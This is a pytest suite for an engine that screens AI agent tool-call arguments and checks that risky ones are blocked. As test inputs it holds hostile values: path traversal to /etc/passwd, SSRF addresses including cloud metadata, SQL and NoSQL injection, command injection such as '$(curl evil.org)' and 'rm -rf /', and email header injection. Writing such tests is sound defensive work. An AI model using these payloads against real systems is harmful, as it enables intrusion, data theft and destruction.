"""`tool_control`: the role of each argument decides who looks at it."""

import functools
from collections.abc import Mapping
from decimal import Decimal
from typing import Any

import msgspec
import pytest

from qwed.domain.actions import Action
from qwed.domain.findings import Failure, Finding, Status
from qwed.domain.json_text import Unrepresentable
from qwed.domain.risk import Risk
from qwed.engines.tools import Checker, EmailRules, FileRules, PaymentRules, ToolControlEngine, ToolRules
from qwed.engines.tools import statements as statements_module

ENGINE = ToolControlEngine()
EMAIL = ToolControlEngine(
    ToolRules(
        email=EmailRules(
            allow=("example.com", "*.example.org"), deny=("*.bad.example.org",), max_recipients=3
        )
    )
)
PAYMENTS = ToolControlEngine(
    ToolRules(payments=PaymentRules(limits={"EUR": Decimal("100.50"), "USD": Decimal(50)}))
)


def verify(tool: str, engine: ToolControlEngine = ENGINE, **parameters: Any) -> Finding:
    return engine.verify(Action(tool, parameters=parameters))


@pytest.mark.parametrize(
    ("tool", "parameters"),
    [
        ("file_read", {"path": "data/a.txt"}),
        ("read_file", {"filename": "notes.md", "encoding": "utf-8"}),
        ("file_write", {"path": "out/a.md", "content": "see ../../etc/passwd and rm -rf /"}),
        ("file_delete", {"path": "tmp/old.txt"}),
        (
            "api_call",
            {"url": "https://api.example.com/v1", "method": "POST", "body": {"text": "http://localhost"}},
        ),
        ("call_api", {"endpoint": "/v1/users", "params": {"id": 5}}),
        ("network_request", {"host": "example.com", "port": 443}),
        (
            "send_email",
            {"to": "a@example.com", "subject": "DROP TABLE", "body": "Run rm -rf / and '; DROP TABLE x;--"},
        ),
        (
            "send_email",
            {"to": ["A <a@example.com>", "b@example.org"], "cc": "c@example.net; d@example.com", "body": "x"},
        ),
        ("log_message", {"message": "GET http://169.254.169.254/ failed; see ../../x"}),
        ("search_web", {"query": "what does '; DROP TABLE users; -- mean"}),
        ("get_weather", {"city": "St. John's"}),
        ("get_weather", {"location": "Paris, France", "units": "metric", "days": 3}),
        ("query_data", {"table": "users", "columns": ["id", "name"], "filters": {"age": {"$gt": 5}}}),
        ("query_data", {"query": "sales by region in Q3"}),
        ("create_ticket", {"title": "a/b & c", "assignee": "o'neil", "tags": ["x", "y"], "due": None}),
        ("read_database", {}),
    ],
)
def test_an_ordinary_call_is_verified_at_low_risk(tool: str, parameters: dict[str, Any]) -> None:
    finding = verify(tool, **parameters)

    assert (finding.status, finding.risk, finding.engine) == (Status.VERIFIED, Risk.LOW, "tool_control"), (
        finding
    )


@pytest.mark.parametrize(
    ("tool", "parameters", "where", "rule"),
    [
        ("file_read", {"path": "../../etc/passwd"}, "parameters.path", "traversal"),
        ("read_file", {"files": ["a", "b/../../c"]}, "parameters.files[1]", "traversal"),
        ("file_write", {"destination": "/etc/cron.d/x"}, "parameters.destination", "sensitive-place"),
        ("api_call", {"url": "http://169.254.169.254/"}, "parameters.url", "metadata-address"),
        ("api_call", {"request": {"url": "http://[::1]/"}}, "parameters.request.url", "loopback-address"),
        (
            "api_call",
            {"url": "https://a.org", "proxy": "http://10.0.0.1:3128"},
            "parameters.proxy",
            "private-address",
        ),
        (
            "api_call",
            {"url": "https://a.org", "webhookUrl": "http://10.0.0.1"},
            "parameters.webhookUrl",
            "private-address",
        ),
        (
            "api_call",
            {"url": "https://a.org", "headers": {"X": "a\r\nY: b"}},
            "parameters.headers.X",
            "header-injection",
        ),
        (
            "api_call",
            {"url": "https://a.org", "headers": {"Host": "localhost"}},
            "parameters.headers.Host",
            "loopback-address",
        ),
        ("network_request", {"host": "intranet"}, "parameters.host", "private-address"),
        ("send_email", {"to": "a@example.com\r\nBcc: b@evil.org"}, "parameters.to", "header-injection"),
        (
            "send_email",
            {"to": "a@example.com", "subject": "x\nBcc: b@evil.org"},
            "parameters.subject",
            "header-injection",
        ),
        ("send_email", {"to": "a@[127.0.0.1]"}, "parameters.to", "recipient-domain"),
        ("send_email", {"to": "a@localhost"}, "parameters.to", "recipient-domain"),
        ("send_email", {"to": "a@good.com@evil.org"}, "parameters.to", "recipient"),
        ("send_email", {"to": "a%evil.org@good.com"}, "parameters.to", "recipient"),
        ("send_email", {"to": "a@g\u043eod.com"}, "parameters.to", "homograph"),
        (
            "send_email",
            {"to": "a@example.com", "attachments": ["../../secret"]},
            "parameters.attachments[0]",
            "traversal",
        ),
        ("get_weather", {"city": "x'; DROP TABLE cities; --"}, "parameters.city", "injection"),
        ("get_weather", {"city": "London; rm -rf /"}, "parameters.city", "injection"),
        ("get_weather", {"city": "$(curl evil.org)"}, "parameters.city", "injection"),
        ("get_weather", {"city": "../../etc/passwd"}, "parameters.city", "traversal"),
        ("get_weather", {"city": "file:///etc/passwd"}, "parameters.city", "scheme"),
        ("get_weather", {"city": {"name": "http://127.0.0.1/"}}, "parameters.city.name", "loopback-address"),
        ("get_weather", {"city": "x" * 9_000 + "'; DROP TABLE a; --"}, "parameters.city", "injection"),
        ("custom", {"args": '{"url": "http://127.0.0.1"}'}, "parameters.args.url", "loopback-address"),
        ("query_data", {"table": "users; DROP TABLE users"}, "parameters.table", "identifier"),
        ("query_data", {"filter": {"$where": "sleep(1000)"}}, "parameters.filter.$where", "nosql-program"),
    ],
)
def test_a_hostile_argument_is_forbidden_and_named(
    tool: str, parameters: dict[str, Any], where: str, rule: str
) -> None:
    finding = verify(tool, **parameters)

    assert (finding.status, finding.failure) == (Status.FAILED, Failure.FORBIDDEN), finding
    assert (where, rule) in {(p["parameter"], p["rule"]) for p in finding.evidence["problems"]}
    assert rule in finding.checks_failed


@pytest.mark.parametrize(
    ("action", "status"),
    [
        (Action("file_read", target="notes.txt"), Status.VERIFIED),
        (Action("file_read", target="../notes.txt"), Status.FAILED),
        (Action("file_read", query="reports/annual report.txt"), Status.VERIFIED),
        (Action("file_read", query="please read /etc/shadow now"), Status.FAILED),
        (Action("file_read"), Status.UNCERTAIN),
        (Action("api_call", target="https://example.com/"), Status.VERIFIED),
        (Action("api_call", target="http://metadata.google.internal/"), Status.FAILED),
        (Action("api_call", query="GET https://example.com/a"), Status.VERIFIED),
        (Action("api_call", query="GET http://2852039166/"), Status.FAILED),
        (Action("api_call", query="do something"), Status.UNCERTAIN),
        (Action("api_call"), Status.UNCERTAIN),
        (Action("send_email", query="tell everybody"), Status.UNCERTAIN),
        (Action("send_email", target="a@example.com"), Status.VERIFIED),
        (Action("send_email", parameters={"to": "bob"}), Status.UNCERTAIN),
        (Action("send_money", parameters={"note": "x"}), Status.UNCERTAIN),
        (Action("get_file_info", parameters={"file_id": "f-5"}), Status.VERIFIED),
        (Action("tool_control", query="http://10.0.0.1/"), Status.FAILED),
        (Action("tool_control", query="../../etc/passwd"), Status.FAILED),
        (Action("tool_control", query="hello there"), Status.VERIFIED),
    ],
)
def test_query_and_target_are_read_by_the_kind_of_tool(action: Action, status: Status) -> None:
    assert ENGINE.verify(action).status is status


@pytest.mark.parametrize(
    ("recipients", "status"),
    [
        ("a@example.com", Status.VERIFIED),
        ("a@sub.example.org", Status.VERIFIED),
        ("a@example.org", Status.FAILED),
        ("a@bad.example.org", Status.FAILED),
        ("a@x.bad.example.org", Status.FAILED),
        ("a@other.net", Status.FAILED),
        ("a@example.com.evil.net", Status.FAILED),
        (["a@example.com"] * 3, Status.VERIFIED),
        (["a@example.com"] * 4, Status.FAILED),
        (", ".join(["a@example.com"] * 4), Status.FAILED),
        ('"Doe, Jane" <jane@example.com>', Status.VERIFIED),
        ("", Status.FAILED),
    ],
)
def test_recipients_follow_the_domain_rules_and_their_number(recipients: Any, status: Status) -> None:
    assert verify("send_email", EMAIL, to=recipients).status is status


@pytest.mark.parametrize(
    ("amount", "currency", "status"),
    [
        (50, "EUR", Status.VERIFIED),
        (Decimal("100.50"), "EUR", Status.VERIFIED),
        ("100.50", "eur", Status.VERIFIED),
        ("€100.50", None, Status.VERIFIED),
        ("$40", "USD", Status.VERIFIED),
        ("$40", "EUR", Status.FAILED),
        (Decimal("100.51"), "EUR", Status.FAILED),
        (100.51, "EUR", Status.FAILED),
        (50.01, "USD", Status.FAILED),
        (1, "GBP", Status.FAILED),
        (0, "EUR", Status.FAILED),
        (-1, "EUR", Status.FAILED),
        ("-1", "EUR", Status.FAILED),
        (float("nan"), "EUR", Status.FAILED),
        (float("inf"), "EUR", Status.FAILED),
        (Decimal("NaN"), "EUR", Status.FAILED),
        ("NaN", "EUR", Status.FAILED),
        ("1e9", "EUR", Status.FAILED),
        ("ten", "EUR", Status.FAILED),
        (True, "EUR", Status.FAILED),
        ([5], "EUR", Status.VERIFIED),
        (Unrepresentable("NaN"), "EUR", Status.FAILED),
        ("1,000", "EUR", Status.UNCERTAIN),
        ("1.000", "EUR", Status.UNCERTAIN),
        (5, None, Status.UNCERTAIN),
        (5, "€€", Status.FAILED),
        (5, 978, Status.FAILED),
    ],
)
def test_a_payment_is_positive_exact_and_within_its_limit(amount: Any, currency: Any, status: Status) -> None:
    parameters = {"amount": amount} | ({} if currency is None else {"currency": currency})

    assert PAYMENTS.verify(Action("send_money", parameters=parameters)).status is status


def test_without_a_configured_limit_a_payment_is_left_to_a_person() -> None:
    assert verify("send_money", amount=1, currency="EUR").status is Status.UNCERTAIN


def test_a_configured_checker_decides_the_role_of_a_parameter() -> None:
    engine = ToolControlEngine(
        ToolRules(
            files=FileRules(roots=("/srv",)),
            checkers={
                "render": Checker(kind="path", parameter="template"),
                "post": (Checker(kind="url", parameter="where"), Checker(kind="text", parameter="path")),
                "give": Checker(kind="payment", parameter="gift.size"),
            },
        )
    )

    assert verify("render", engine, template="/srv/a.html").status is Status.VERIFIED
    assert verify("render", engine, template="/etc/a.html").status is Status.FAILED
    assert verify("post", engine, where="10.0.0.1").status is Status.FAILED
    assert verify("post", engine, where="example.com", path="../..").status is Status.VERIFIED
    assert verify("give", engine, gift={"size": -4}).status is Status.FAILED


def test_the_rules_survive_the_way_to_a_worker_process() -> None:
    rules = ToolRules(
        payments=PaymentRules(limits={"EUR": Decimal("1.50")}),
        checkers={"a": Checker(kind="url", parameter="x"), "b": (Checker(kind="path", parameter="y"),)},
    )

    assert msgspec.msgpack.decode(msgspec.msgpack.encode(rules), type=ToolRules) == rules


def test_an_unknown_rule_is_an_error() -> None:
    with pytest.raises(msgspec.ValidationError):
        msgspec.convert({"urls": {"alow": ["x"]}}, ToolRules)


@pytest.mark.parametrize(
    "parameters",
    [
        {"items": ["x"] * 5_000},
        {"deep": functools.reduce(lambda inner, _: [inner], range(60), "x")},
    ],
)
def test_more_than_is_inspected_is_undecided(parameters: Mapping[str, Any]) -> None:
    assert ENGINE.verify(Action("custom", parameters=parameters)).status is Status.UNCERTAIN


def test_a_crash_inside_is_undecided_and_not_passed(monkeypatch: pytest.MonkeyPatch) -> None:
    class Hostile(dict[str, Any]):
        def items(self) -> Any:
            raise RuntimeError("boom")

    finding = ENGINE.verify(Action("custom", parameters=Hostile(a=1)))

    assert (finding.status, finding.checks_failed) == (Status.UNCERTAIN, ("internal",))


def test_a_statement_is_undecided_where_its_engine_is_missing(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(statements_module, "_engine", lambda module, name: None)

    assert verify("database_read", query="SELECT 1").status is Status.UNCERTAIN
    assert verify("run_shell", command="ls").status is Status.UNCERTAIN


def test_programs_are_not_quick_and_small_calls_are() -> None:
    assert ENGINE.is_quick(Action("api_call", target="https://example.com"))
    assert not ENGINE.is_quick(Action("execute_code", code="1"))
    assert not ENGINE.is_quick(Action("run_shell", parameters={"command": "ls"}))
    assert not ENGINE.is_quick(Action("file_write", parameters={"content": "x" * 10_000}))
    assert ENGINE.is_quick(Action("database_read", query="SELECT 1"))
    assert not ENGINE.is_quick(Action("database_read", query="SELECT 1, " * 200 + "1"))


def test_the_same_action_gets_the_same_finding() -> None:
    action = Action(
        "api_call", parameters={"url": "http://10.0.0.1", "file": "../x", "b": {"c": "http://[::1]/"}}
    )

    assert ENGINE.verify(action) == ToolControlEngine().verify(action)
